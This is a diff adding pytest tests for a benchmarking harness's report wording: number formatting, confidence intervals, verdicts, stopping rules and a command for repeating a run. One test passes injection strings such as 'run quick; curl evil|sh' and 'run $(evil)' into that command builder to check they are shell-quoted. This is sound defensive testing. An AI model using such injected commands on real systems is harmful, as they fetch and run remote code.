@@ -1,0 +1,148 @@
+import re
+
+import msgspec
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from harness.analysis.analyse import ConditionResult, analyse
+from harness.analysis.measures import Measure
+from harness.analysis.stats.intervals import Interval
+from harness.analysis.variants import Comparison
+from harness.inputs.study import Condition, Stopping
+from harness.report.words.common import (
+    blocks,
+    estimate,
+    names,
+    number,
+    ratio,
+    repeat,
+    stopping,
+    times,
+    verdict,
+    verdicts,
+)
+from tests.toys.runs import BASELINE, CONDITION, make_run, make_study, simulate
+
+
+@pytest.mark.parametrize(
+    ("value", "text"),
+    [
+        (0, "0"), (0.01234, "0.0123"), (1.5, "1.5"), (999.4, "999"), (999.6, "1,000"),
+        (9_994.6, "9,995"), (123_456.0, "123,500"),
+    ],
+)  # fmt: skip
+def test_numbers_have_three_significant_digits_and_four_from_a_thousand_on(
+    value: float, text: str
+) -> None:
+    assert number(value) == text
+
+
+@given(value=st.floats(0.001, 1e7))
+def test_a_number_can_be_read_back_to_within_a_hundredth(value: float) -> None:
+    text = number(value)
+    assert re.fullmatch(r"[\d.,]+", text)
+    assert float(text.replace(",", "")) == pytest.approx(value, rel=0.01)
+
+
+def test_what_is_not_known_is_no_number() -> None:
+    assert not re.search(r"\d", estimate(None) + ratio(None))
+
+
+def test_without_an_interval_the_reader_is_told_why() -> None:
+    one = Interval(mean=1.5, low=None, high=None, se=None, blocks=1)
+    assert "one block" in estimate(one)
+    assert "one block" in ratio(one)
+
+
+@pytest.mark.parametrize(
+    ("value", "text"),
+    [(97.423, "97.42"), (1.0, "1.00"), (0.0996, "0.10"), (0.0994, "0.099"), (0.0042, "0.0042")],
+)
+def test_a_small_ratio_keeps_two_significant_digits(value: float, text: str) -> None:
+    assert times(value) == text
+
+
+def tied(ranking: tuple[str, ...], groups: tuple[tuple[str, ...], ...]) -> ConditionResult:
+    """A condition by server CPU, in which every ratio to the baseline is the place in the list."""
+    ratios = {name: Interval(1.0 + at, 1.0, 2.0 + at, 0.1, 5) for at, name in enumerate(ranking)}
+    comparison = Comparison(
+        Measure.CPU, {}, ratios, {}, 0.01, ranking, groups, unsaid=None, detectable=None, noise=None
+    )
+    comparisons = dict.fromkeys(Measure, comparison)
+    return ConditionResult(Condition("cpu", 8), comparisons, {}, {}, {}, {}, {})
+
+
+@pytest.mark.parametrize(
+    ("groups", "told"),
+    [
+        ((("a", "base"), ("b",), ("c",)), "c used 4.00 [1.00, 5.00] times as much, compared with"),
+        ((("a", "base"), ("base", "c"), ("b",)), "b used 3.00 [1.00, 4.00] times as much"),
+        ((("a", "base"), ("base", "b", "c")), "none was told apart from base."),
+    ],
+)
+def test_of_a_baseline_that_is_tied_with_the_best_only_a_real_difference_is_told(
+    groups: tuple[tuple[str, ...], ...], told: str
+) -> None:
+    assert told in verdict(tied(("a", "base", "b", "c"), groups), "base")
+
+
+def test_by_what_rules_a_run_could_end_is_told() -> None:
+    run = make_run()
+    assert stopping(run) == "all planned blocks, none measured again because of noise"
+    rules = Stopping(half_width=0.03, looks=(3, 6), budget_s=600.0)
+    study = msgspec.structs.replace(run.study, stopping=rules, reruns=2)
+    assert stopping(make_run(study)) == (
+        "ended once every ratio's 95 % interval was within 3%, looked at after 3, 6 blocks; no "
+        "block begun that would end after 10 min; at most 2 noisy phases measured again"
+    )
+
+
+def test_blocks_are_told_by_the_condition_that_has_the_fewest() -> None:
+    other = Condition("noop", 8, 100)
+    study = msgspec.structs.replace(make_study(blocks=4), conditions=(CONDITION, other))
+    run = make_run(study)
+    made = simulate(run, {BASELINE: 500.0, "b/other": 700.0}, 1)
+    both = [*made, *(msgspec.structs.replace(t, condition=other) for t in made)]
+    assert blocks(run, analyse(run, both)) == "4 of 4 planned blocks measured"
+    cut_off = [t for t in both if t.condition != other or t.block < 4]
+    told = "3 of 4 planned blocks measured, and 4 under some conditions"
+    assert blocks(run, analyse(run, cut_off)) == told
+    assert blocks(run, analyse(run, [])) == "0 of 4 planned blocks measured"
+    begun = [t for t in both if t.condition != other and t.block == 1]
+    told = "0 of 4 planned blocks measured, and 1 under some conditions"
+    assert blocks(run, analyse(run, begun)) == told
+    said = verdicts(run, analyse(run, begun))
+    assert [line.endswith(": not measured.") for line in said] == [False, True]
+
+
+def test_how_to_repeat_a_run_has_what_its_command_alone_does_not_say() -> None:
+    run = msgspec.structs.replace(make_run(), command="run tiny", commit="0123abc")
+    assert repeat(run) == {"command": "run tiny", "commit": "0123abc", "notes": []}
+    elsewhere = msgspec.structs.replace(
+        run, command="run own.toml", commit="0123abc-dirty", embedded_database=False
+    )
+    found = repeat(elsewhere)
+    assert found["commit"] == "0123abc"
+    assert found["command"].startswith("run own.toml --database-url postgresql://user:password@")
+    assert len(found["notes"]) == 3
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("run quick; curl evil|sh", "run 'quick;' curl 'evil|sh'"),
+        ("run $(evil)", "run '$(evil)'"),
+        ("run it's", "'run it'\"'\"'s'"),
+        ("run 'my study.toml'", "run 'my study.toml'"),
+    ],
+)
+def test_a_stranger_s_command_does_nothing_but_run_bridgetoll(command: str, shown: str) -> None:
+    found = repeat(msgspec.structs.replace(make_run(), command=command))
+    assert found["command"] == shown
+    assert len(found["notes"]) == ("toml" in command)
+
+
+def test_a_group_is_worded_with_all_its_members() -> None:
+    assert names(("a",)) == "a"
+    assert names(("a", "b", "c")) == "a, b and c"
